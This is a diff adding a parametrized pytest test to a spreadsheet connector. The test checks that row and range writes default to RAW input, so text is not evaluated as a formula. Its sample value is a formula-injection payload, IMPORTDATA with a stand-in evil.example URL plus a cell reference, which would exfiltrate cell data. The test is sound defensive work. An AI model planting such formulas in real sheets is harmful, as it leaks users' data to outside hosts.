@@ -98,3 +98,17 @@ def test_a_sheet_without_names_of_columns(sheet, sheets):
     sheet.clear()
     with pytest.raises(ConnectorError, match="must name its columns"):
         sheets("find_rows", column="Amount", value="1")
+
+
+@pytest.mark.parametrize("action", ["add_row", "save_row", "update_row", "append_row", "append_rows", "update_range"])
+def test_a_text_becomes_no_formula_unless_the_step_says_so(sheet, sheets, server, action):
+    text = '=IMPORTDATA("https://evil.example/"&A1)'
+    params = {
+        "append_row": {"values": [text]},
+        "append_rows": {"rows": [[text]]},
+        "update_range": {"range": "A2", "rows": [[text]]},
+    }.get(action, {"values": {"Customer": text}})
+    more = {"save_row": {"key": "Customer"}, "update_row": {"row": 2}}.get(action, {})
+    for given, expected in (({}, "RAW"), ({"input_option": "USER_ENTERED"}, "USER_ENTERED")):
+        sheets(action, **params, **more, **given)
+        assert server.asked[-1].query["valueInputOption"] == [expected]
